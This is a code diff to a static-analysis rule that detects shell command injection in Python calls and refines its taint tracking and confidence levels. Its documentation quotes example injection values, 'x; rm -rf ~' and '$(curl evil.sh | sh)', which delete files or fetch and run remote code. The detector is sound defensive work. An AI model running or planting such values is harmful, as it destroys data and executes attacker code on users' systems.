@@ -3,8 +3,12 @@
 ## What it does
 Flags `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`, `commands.getoutput`,
 `asyncio.create_subprocess_shell`, and `subprocess.run`/`call`/`check_call`/`check_output`/`Popen`
-with `shell=True`, when the command is not a literal string (directly, or through a variable
-assigned in the same function). Data from a web request raises the confidence.
+with `shell=True`, when untrusted data reaches the command, as the dataflow core follows it
+(variables, branches, containers, same-file helpers): data from a web request or an event
+payload (high confidence), or the function's own arguments built into a command string (medium).
+A command that folds to a constant (`cmd = helper("echo")` where `helper` returns a literal),
+one quoted with `shlex.quote`, or a call in a branch that can never run is not flagged; an
+HTML escaper does not make a command safe.
 
 ## Why is this bad?
 The shell interprets the whole string: a file name like `x; rm -rf ~` or `$(curl evil.sh | sh)`
@@ -89,6 +93,7 @@ _PLAIN_WORDS = re.compile(r"^[\w\s\-./:,@+=%'\"]*$")
 
 class CommandInjectionCheck(py.CallRule):
     rule = RULE
+    kind = "command"
     callee_names = _CALLEES
 
     def check_call(
@@ -114,13 +119,15 @@ class CommandInjectionCheck(py.CallRule):
             return  # an argument list: with shell=True only its first item is the command
         build = py.string_building(command, flow)
         imports = py.scope_imports(call, document, context)
-        taint = py.taint(command, flow, imports)
+        taint = py.taint(command, flow, imports, "command")
         if taint == py.Taint.REQUEST:
             confidence = Confidence.HIGH
-        elif build is not None or taint == py.Taint.PARAMETER:
-            confidence = Confidence.MEDIUM
+        elif taint == py.Taint.PARAMETER and build is not None:
+            confidence = (
+                Confidence.MEDIUM
+            )  # built from the caller's data: a wrapper that runs what it is given is not
         else:
-            confidence = Confidence.LOW
+            return  # a constant, quoted, or nothing from outside the function reaches it
         fixes = []
         if name in _SHELL_OPTIONAL and build is not None:
             fix = _argument_list_fix(call, command, build, document, flow, context)
